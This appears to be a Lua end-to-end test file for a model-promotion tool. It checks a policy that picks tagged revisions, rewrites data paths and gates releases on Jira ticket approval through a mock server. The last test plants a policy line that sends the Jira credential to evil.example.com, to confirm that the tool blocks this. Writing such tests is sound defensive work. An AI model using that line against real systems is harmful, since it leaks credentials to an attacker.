-- The policy and the configuration's secret as the sketch of the API prints
-- them. The ticket system is a server of this test: https://jira.example.com
-- leads to it through a proxy, with a certificate of its own authority.
local badserver = require("support.badserver")
local e2e = require("support.e2e")
local err = require("godwit.err")
local fs = require("godwit.core.fs")
local relay = require("support.relay")
local tlsproxy = require("support.tlsproxy")

local POLICY = [[
return {
  revision = function(a, cx) return a:tags("v*")[1] end,      -- tag, version, commit; newest first; nil: skipped
  map_name = function(name, cx) return name .. "_prod" end,   -- algoname and module stay unless transform moves them
  map_environment = { ["Python 3.8"] = "Python 3.8 + CUDA" }, -- a table or a function; names, not ids
  transform = function(tree, cx) tree:replace("src/*.py", "data://dev_", "data://prod_") end,
  version_step = function(a, cx) return "minor" end,
  gate = function(a, cx)
    local id = cx.commit.message:match "OPS%-%d+"
    if not id then return cx:refuse "no OPS-nnn in the commit message" end
    local r = http.get("https://jira.example.com/rest/api/2/issue/" .. id, { auth = godwit.secret "jira" })
    if r:json().fields.status.name ~= "Approved" then return cx:wait(id .. " is not approved") end
  end,
}
]]

local SECRETS = [[
  secrets = {
    jira  = { host = "https://jira.example.com", scheme = "Bearer", value = env "JIRA_TOKEN" },
  },
}
]]

local HELLO, THERE = "acme/Hello", "acme/Hello_prod"
local TOKEN = "jira-token-8d1c07"

local PROD = { environments = {
  { spec = "5b0c2b6e-0000-4000-8000-0000000000b1", name = "Python 3.8 + CUDA",
    machine = "GPU", language = "python3" },
  e2e.ENVIRONMENTS[2],
} }

local function seed(dev)
  dev:create(HELLO)
  local function change(n, message, tag)
    local commit = dev:commit(HELLO, { { path = "src/Hello.py",
      data = ("# %s\nDATA = 'data://dev_models/x'\n"):format(n) },
      { path = "doc.txt", data = "data://dev_stays\n" } },
      { message = message })
    if tag then
      dev:tag(HELLO, tag, commit, "Release " .. tag)
    end
    return commit
  end
  return change
end

--- A world with a ticket system that answers with these statuses.
local function world(t, statuses)
  local commits, change = {}, nil
  local w = e2e.world(t, function(dev)
    change = seed(dev)
    commits.first = change(1, "OPS-11: a model\n", "v1.2")
    commits.second = change(2, "OPS-12: a better model\n", "v1.10")
    change(3, "Not released\n")
  end, { prod = PROD })
  w.asked = {}
  local jira = relay.start(t, "http://127.0.0.1:1", function(seen)
    if seen.path == "/" then
      return { status = 200, body = "up" }
    end
    w.asked[#w.asked + 1] = seen.headers.authorization
      or seen.headers.Authorization or "nobody"
    local status = statuses[seen.path:match("^/rest/api/2/issue/(OPS%-%d+)$")]
    return status and { status = 200,
      headers = { ["Content-Type"] = "application/json" },
      body = ('{"fields":{"status":{"name":"%s"}}}'):format(status) }
      or { status = 404, body = "{}" }
  end)
  local front = tlsproxy.start(t, jira.url, nil, { "jira.example.com" })
  local proxy = badserver.start(t, "--proxy", "--to", front.port)
  local path = w.home .. "/.config/godwit/config.lua"
  local config = err.check(fs.read(path, 1 << 20))
  err.check(fs.write(path, (config:gsub("}%s*}%s*$", "},\n") .. SECRETS), 384))
  err.check(fs.mkdir(w.home .. "/policies", 448))
  err.check(fs.write(w.home .. "/policies/acme.lua", POLICY))
  w.commits, w.change = commits, change
  w.with = { JIRA_TOKEN = TOKEN, HTTPS_PROXY = proxy.url,
    SSL_CERT_FILE = front.ca }
  return w
end

test("the policy as printed: tag, name, environment, files, step, gate",
function(t)
  local statuses = { ["OPS-11"] = "Approved", ["OPS-12"] = "In review" }
  local w = world(t, statuses)
  local r = e2e.expect(w:promote({ HELLO }, w.with), 3)
  t:eq(r.item.outcome, "waiting")
  t:match(r.item.why, "^OPS%-12 is not approved %(policies/acme.lua, gate%)")
  t:eq(w.prod:get(THERE), nil)
  t:eq(w.asked, { "Bearer " .. TOKEN })

  statuses["OPS-12"] = "Approved"
  r = e2e.expect(w:promote({ HELLO }, w.with), 0)
  t:eq(r.item.outcome, "created")
  t:eq(r.item.to, "prod:" .. THERE)
  t:eq(r.item.source_commit, w.commits.second) -- v1.10, not v1.2, not the head
  t:eq(r.item.version, "0.1.0")
  local there = w.prod:read(THERE)
  t:eq(there.texts["src/Hello.py"], "# 2\nDATA = 'data://prod_models/x'\n")
  t:eq(there.texts["doc.txt"], "data://dev_stays\n")
  local id = w.prod:get(THERE).settings.algorithm_environment
  for _, env in ipairs(w.prod:driver():list_environments()) do
    t:eq(env.id == id, env.display_name == "Python 3.8 + CUDA")
  end

  -- Nothing new, nobody is asked.
  local n = #w.asked
  r = e2e.expect(w:promote({ HELLO }, w.with), 0)
  t:eq(r.item.outcome, "unchanged")
  t:eq(#w.asked, n)
  t:no(w.said:find(TOKEN, 1, true))
end)

test("without a ticket it is refused, a ticket that is none fails it",
function(t)
  local w = world(t, {})
  local r = e2e.expect(w:promote({ HELLO }, w.with), 1)
  t:eq(r.item.outcome, "failed")
  t:match(r.item.why, "^policies/acme.lua:10: gate: .*404")
  w.dev:tag(HELLO, "v2", w.dev:tip(HELLO))
  r = e2e.expect(w:promote({ HELLO }, w.with), 6)
  t:match(r.item.why, "^no OPS%-nnn in the commit message")
  t:eq(w.prod:get(THERE), nil)
end)

test("an algorithm without a tag is skipped", function(t)
  local w = world(t, {})
  w.dev:create("acme/Plain")
  local r = e2e.expect(w:promote({ "acme/Plain" }, w.with), 0)
  t:eq(r.item.outcome, "skipped")
  t:match(r.item.why, "^the policy chose no revision")
end)

test("the secret goes to its own host only, and a plan asks the gate, too",
function(t)
  local w = world(t, { ["OPS-12"] = "Approved" })
  local r = e2e.expect(w:promote({ HELLO, "-n" }, w.with), 0)
  t:eq(r.item.outcome, "created")
  t:eq(#w.asked, 1)
  err.check(fs.write(w.home .. "/policies/acme.lua", [[return {
  gate = function(a, cx)
    http.get("https://evil.example.com/", { auth = godwit.secret "jira" })
  end, map_environment = { ["Python 3.8"] = "Python 3.8 + CUDA" } }]]))
  r = e2e.expect(w:promote({ HELLO }, w.with), 9)
  t:eq(r.item.outcome, "failed")
  t:match(r.item.why, "^policies/acme.lua:3: gate: .*must not be sent to "
    .. "https://evil.example.com")
  t:eq(#w.asked, 1)
  t:no(w.said:find(TOKEN, 1, true))
end)
